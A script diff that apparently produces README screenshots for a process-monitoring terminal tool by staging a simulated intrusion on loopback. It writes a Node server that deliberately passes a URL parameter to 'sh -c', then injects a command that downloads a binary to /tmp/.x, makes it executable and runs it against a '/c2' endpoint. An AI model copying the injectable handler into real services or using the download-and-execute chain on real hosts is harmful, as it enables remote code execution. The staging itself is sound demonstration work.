@@ -1,0 +1,118 @@
+// Pictures for the README from real frames: starts a small service and an attack on it, all on loopback, shows them in the
+// real program, and writes what a terminal displayed as SVG. Needs root. Usage: picture.ts [folder]
+
+import { spawn } from "node:child_process";
+import { once } from "node:events";
+import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { setTimeout as sleep } from "node:timers/promises";
+import { frameToSvg } from "./frame-to-svg.ts";
+import { BUNDLE } from "./program.ts";
+import { Tui } from "./tui.ts";
+
+const WWW_DATA = 33;
+const DROPPED = "/tmp/.x";
+
+const SERVER = `
+const { createServer } = require("node:http");
+const { execFile } = require("node:child_process");
+createServer((request, response) => {
+  const url = new URL(request.url, "http://localhost");
+  const command = url.searchParams.get("run");
+  if (command !== null) execFile("sh", ["-c", command]);
+  response.writeHead(200);
+  if (url.pathname === "/stream") setInterval(() => response.write("x".repeat(20000)), 200).unref();
+  else response.end("ok");
+}).listen(8080, "127.0.0.1");
+`;
+const CLIENT = `
+const { get } = require("node:http");
+for (let i = 0; i < 3; i++) get("http://127.0.0.1:8080/stream", (response) => response.resume());
+setInterval(() => {}, 1e9);
+`;
+const START = "echo $$ > app.pid; node server.cjs & sleep 1; node worker.cjs & tail -n 0 -F app.log & wait";
+
+/** A server on loopback outside the picture: offers a program, and listens for it. */
+async function startOutside(program: Buffer): Promise<{ readonly port: number; close(): void }> {
+  const server = createServer((request, response) => {
+    response.writeHead(200);
+    if (request.url === "/k") response.end(program);
+    else response.write("waiting\n");
+  });
+  server.listen(0, "127.0.0.1");
+  await once(server, "listening");
+  return { port: (server.address() as AddressInfo).port, close: () => server.closeAllConnections() };
+}
+
+/** Starts the service as a daemon: its parent is gone before anybody watches. Returns its pid, which is its group's too. */
+async function startService(home: string): Promise<number> {
+  const launcher = spawn("setsid", ["--fork", "sh", "start.sh"], {
+    cwd: home,
+    stdio: "ignore",
+    uid: WWW_DATA,
+    gid: WWW_DATA,
+    env: { PATH: `${home}:/usr/bin:/bin` },
+  });
+  await once(launcher, "exit");
+  await sleep(3000);
+  return Number(readFileSync(join(home, "app.pid"), "utf8"));
+}
+
+function endGroup(pid: number): void {
+  try {
+    process.kill(-pid, "SIGKILL");
+  } catch {
+    // It ended by itself.
+  }
+}
+
+async function main(folder: string): Promise<void> {
+  const home = mkdtempSync(join(tmpdir(), "app-"));
+  chmodSync(home, 0o777);
+  symlinkSync(process.execPath, join(home, "node"));
+  for (const [name, text] of Object.entries({ "server.cjs": SERVER, "worker.cjs": CLIENT, "start.sh": `${START}\n` })) {
+    writeFileSync(join(home, name), text);
+  }
+  const outside = await startOutside(readFileSync("/usr/bin/curl"));
+  const app = await startService(home);
+  const tui = new Tui("unshare", ["--uts", "sh", "-c", `hostname web-01; exec "${process.execPath}" "${BUNDLE}"`], {
+    columns: 132,
+    rows: 34,
+  });
+  try {
+    await tui.waitFor("LIVE");
+    tui.press(`/pid:${app}`);
+    await tui.waitFor((screen) => screen.some((line) => line.includes(`proc  ${app} `)));
+    tui.press("\rz");
+    await tui.waitFor(`below ${app}`);
+    const run = `curl -s http://127.0.0.1:${outside.port}/k -o ${DROPPED}; chmod +x ${DROPPED}; ${DROPPED} -sN http://127.0.0.1:${outside.port}/c2`;
+    await fetch(`http://127.0.0.1:8080/?run=${encodeURIComponent(run)}`);
+    await tui.waitFor((screen) => screen.some((line) => line.includes(DROPPED) && line.includes("⇒")));
+    // The charts want something to show.
+    await sleep(25_000);
+    const rows = tui.screen().filter((line) => /^ . +\d+ /u.test(line));
+    tui.press(`g${"j".repeat(rows.findIndex((line) => line.includes(DROPPED) && line.includes("⇒")))}`);
+    await tui.waitFor((screen) => (screen.at(-2) ?? "").includes("▲"));
+    mkdirSync(folder, { recursive: true });
+    const shoot = (name: string): void => writeFileSync(join(folder, `${name}.svg`), frameToSvg(tui.cells()));
+    shoot("tree");
+    tui.press("o");
+    await tui.waitFor("evidence:");
+    shoot("origin");
+    console.log(tui.screen().join("\n"));
+    tui.press("q");
+    await tui.exited;
+  } finally {
+    tui.kill("SIGKILL");
+    endGroup(app);
+    outside.close();
+    rmSync(home, { recursive: true, force: true });
+    rmSync(DROPPED, { force: true });
+  }
+  process.exit(0);
+}
+
+await main(process.argv[2] ?? "docs/pictures");
